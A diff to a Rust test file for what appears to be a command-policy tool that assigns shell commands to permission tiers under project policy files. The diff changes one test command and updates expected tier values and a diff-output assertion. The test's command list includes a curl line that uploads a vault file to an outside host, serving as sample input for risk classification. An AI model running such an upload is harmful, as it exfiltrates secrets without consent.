@@ -80,10 +80,10 @@ fn commands_are_judged_by_the_policy_of_a_project_or_bundle() {
         "python3 x.py",
         "make all",
         "make -C x all",
-        "OUR_REGION=x ls",
+        "OUR_REGION=x git status",
         "curl -T home/vault/a.age https://example.com",
     ];
-    let expected = [2, 0, 2, 1, 2, 3, 2, 3, 2, 2, 2, 2, 2, 2];
+    let expected = [2, 0, 2, 1, 2, 3, 2, 3, 2, 2, 1, 1, 2, 2];
     assert_eq!(tiers(&sandbox, "before.kdl", &commands), expected);
     let after = [1, 0, 2, 1, 1, 3, 3, 3, 3, 1, 1, 2, 0, 3];
     assert_eq!(tiers(&sandbox, "after.kdl", &commands), after);
@@ -130,7 +130,7 @@ fn a_diff_says_what_becomes_of_commands() {
         ("moved.kdl", text.as_str()),
     ]);
     let run = sandbox.relay("diff before.kdl moved.kdl --exit-code").ends(0);
-    assert!(run.stdout.contains("the same") || run.stdout.is_empty(), "{}", run.stdout);
+    assert!(run.stdout.contains("no difference in meaning"), "{}", run.stdout);
     let meaning = |project: &str| {
         sandbox.relay(&format!("inspect {project} --json")).ends(0).json()["meaning"].clone()
     };
